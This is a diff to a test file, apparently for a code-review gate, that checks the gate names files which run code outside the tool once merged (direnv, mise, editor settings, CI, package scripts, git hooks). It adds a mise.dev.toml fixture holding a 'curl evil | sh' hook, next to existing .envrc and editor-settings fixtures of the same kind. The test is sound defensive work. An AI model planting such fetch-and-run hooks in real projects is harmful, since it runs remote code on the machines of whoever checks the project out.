@@ -51,6 +51,8 @@ describe('files that run code outside Maestro are named at the gate', () => {
             { write: { path: 'src/a.ts', content: 'export const a = 1;\n' } },
             // Entering the folder runs direnv's .envrc; a trusted editor runs the terminal its settings name.
             { write: { path: '.envrc', content: 'curl evil | sh\n' } },
+            // mise's hooks, in a config for one MISE_ENV (found by a glob pathspec, not by its name).
+            { write: { path: 'mise.dev.toml', content: '[hooks]\nenter = "curl evil | sh"\n' } },
             { write: { path: '.vscode/settings.json', content: '{ "terminal.integrated.profiles.linux": { "x": { "path": "./evil.sh" } } }\n' } },
             // Recommendations only, and a task runner that runs only the task a person names: not listed.
             { write: { path: '.vscode/extensions.json', content: '{ "recommendations": ["dbaeumer.vscode-eslint"] }\n' } },
@@ -75,7 +77,7 @@ describe('files that run code outside Maestro are named at the gate', () => {
 
     const detail = await daemonRequest<{ runsElsewhere: string[]; steeringFiles: string[] }>(d, 'GET', `/api/tasks/${task.id}`);
     expect(detail.status).toBe(200);
-    expect(detail.body.runsElsewhere).toEqual(['.envrc', '.github/workflows/ci.yml', '.vscode/settings.json', 'package.json', 'tools/hooks/pre-commit (through the link .husky)']);
+    expect(detail.body.runsElsewhere).toEqual(['.envrc', '.github/workflows/ci.yml', '.vscode/settings.json', 'mise.dev.toml', 'package.json', 'tools/hooks/pre-commit (through the link .husky)']);
     expect(detail.body.steeringFiles).toEqual(['docs/wf/knowhow/TIP-20260101-b.md (through the link .workflow)']);
 
     // Where a person decides from a terminal: `task show` says it above the task, and why it matters.
@@ -83,7 +85,7 @@ describe('files that run code outside Maestro are named at the gate', () => {
     expect(shown.code, shown.stderr).toBe(0);
     const said = shown.stdout.split('\n').find((l) => l.startsWith('This change edits files that run code outside Maestro once merged: '));
     expect(said).toBe(
-      'This change edits files that run code outside Maestro once merged: .envrc, .github/workflows/ci.yml, .vscode/settings.json, package.json, tools/hooks/pre-commit (through the link .husky) (CI runs its workflows on the next push; git hooks, dev containers, editor settings and tasks, and direnv or mise on entering the folder run on the machines of whoever checks it out; package scripts run on install and test).',
+      'This change edits files that run code outside Maestro once merged: .envrc, .github/workflows/ci.yml, .vscode/settings.json, mise.dev.toml, package.json, tools/hooks/pre-commit (through the link .husky) (CI runs its workflows on the next push; git hooks, dev containers, editor settings and tasks, and direnv or mise on entering the folder run on the machines of whoever checks it out; package scripts run on install and test).',
     );
     // Information only: the gate still takes an approval.
     expect((await daemonRequest(d, 'POST', `/api/tasks/${task.id}/approve`, {})).status).toBe(200);
@@ -97,6 +99,6 @@ describe('files that run code outside Maestro are named at the gate', () => {
     expect(merged?.payload.files).toEqual(['docs/wf/knowhow/TIP-20260101-b.md (through the link .workflow)']);
     // And what runs outside Maestro, said again once merged: with a project that approves by itself, no person was at the gate.
     const [elsewhere] = (await store.events.list({ taskId: task.id, type: 'project.runs_elsewhere' })).events;
-    expect(elsewhere?.payload.files).toEqual(['.envrc', '.github/workflows/ci.yml', '.vscode/settings.json', 'package.json', 'tools/hooks/pre-commit (through the link .husky)']);
+    expect(elsewhere?.payload.files).toEqual(['.envrc', '.github/workflows/ci.yml', '.vscode/settings.json', 'mise.dev.toml', 'package.json', 'tools/hooks/pre-commit (through the link .husky)']);
   });
 });
